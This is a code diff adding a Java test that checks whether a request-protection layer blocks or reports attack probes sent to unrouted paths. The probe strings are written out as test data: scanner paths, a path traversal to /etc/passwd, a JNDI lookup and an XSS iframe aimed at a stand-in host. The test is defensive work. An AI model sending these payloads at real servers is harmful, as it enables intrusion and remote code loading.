@@ -114,6 +114,26 @@ class RequestProtectionTest {
     }
 
     @Test
+    void probesAtPathsTheApplicationDoesNotRouteAreInspectedToo() throws Exception {
+        try (BookstoreServer server = Servers.start(BUDGET, "1s")) {
+            PalisadeRuntime runtime = server.container().select(PalisadeRuntime.class).get();
+            assertThat(get(server.uri(), "no/such/page").statusCode()).as("an ordinary unknown page").isEqualTo(404);
+            assertThat(get(server.uri(), ".env").statusCode()).isEqualTo(403);
+            assertThat(get(server.uri(), "wp-login.php").statusCode()).isEqualTo(403);
+            assertThat(get(server.uri(), "no/such/page?file=" + q("../../../../etc/passwd")).statusCode()).isEqualTo(403);
+            assertThat(get(server.uri(), "no/such/page", "User-Agent", "${jndi:ldap://evil.example/a}").statusCode())
+                    .isEqualTo(403);
+            // A heuristic on an unrouted path is reported, and the application still answers 404.
+            assertThat(get(server.uri(), "no/such/page?q=" + q("<iframe src=//evil.example/x>")).statusCode()).isEqualTo(404);
+            await().atMost(Duration.ofSeconds(5)).untilAsserted(() -> assertThat(runtime.counters().snapshot())
+                    .containsEntry("attacks.scanner-path.block", 2L)
+                    .containsEntry("attacks.path-traversal-exploit.block", 1L)
+                    .containsEntry("attacks.jndi-lookup.block", 1L)
+                    .containsEntry("attacks.xss-request.monitor", 1L));
+        }
+    }
+
+    @Test
     void aForwardedForHeaderFromAnUntrustedPeerChangesNothing() throws Exception {
         // No trusted proxy: the socket peer (127.0.0.1) is the client, whatever the header says.
         try (BookstoreServer server = Servers.start("palisade.ip.denylist", "203.0.113.0/24")) {
